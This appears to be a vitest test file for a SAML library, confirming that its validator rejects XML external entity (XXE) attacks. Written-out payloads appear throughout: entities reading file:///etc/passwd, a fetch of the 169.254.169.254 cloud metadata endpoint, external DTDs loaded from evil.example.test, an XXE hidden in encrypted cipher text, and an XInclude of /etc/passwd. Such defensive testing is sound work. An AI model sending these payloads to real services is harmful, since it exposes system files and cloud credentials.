/**
 * External entities (XXE): the message makes the server read files and call URLs.
 * CWE-611; CVE-2016-10127 (PySAML2).
 */

import { createScenario, encryptAssertion, fromFormValue, toFormValue } from "@sallyport/saml/testing";
import { expect, it } from "vitest";

const scenario = createScenario();
const xml = fromFormValue(scenario.respond());

it("accepts the message without a document type", () => {
  expect(scenario.validate(toFormValue(xml))).toMatchObject({ ok: true });
});

it.each([
  ["a file", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"],
  ["a URL", '<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>', "&x;"],
  ["a parameter entity", '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example.test/x.dtd"> %x;]>', ""],
  ["an external subset", '<!DOCTYPE r SYSTEM "http://evil.example.test/x.dtd">', ""],
  [
    "an external subset behind an XML declaration",
    '<?xml version="1.0"?><!DOCTYPE r PUBLIC "a" "http://evil.example.test/">',
    "",
  ],
])("refuses %s", (_, doctype, reference) => {
  const message = doctype + xml.replace("jo@example.test", `${reference}jo@example.test`);
  expect(scenario.validate(toFormValue(message))).toMatchObject({ ok: false, code: "xml_doctype" });
});

it("refuses one inside the cipher text, where no first look sees it", () => {
  const hidden = encryptAssertion('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', {
    recipient: scenario.encryptionCertificate,
  });
  const response = scenario.respond({
    sign: "response",
    editResponse: (message) => message.replace(/<saml:Assertion .*<\/saml:Assertion>/, hidden),
  });
  expect(scenario.validate(response)).toMatchObject({ ok: false, code: "decryption_failed" });
});

it("includes nothing by XInclude", () => {
  const include =
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>';
  const edit = (assertion: string) =>
    assertion.replace("jo@example.test</saml:NameID>", `${include}</saml:NameID>`);
  expect(scenario.validate(scenario.respond({ editAssertion: edit }))).toMatchObject({
    ok: false,
    code: "element_unexpected",
  });
});
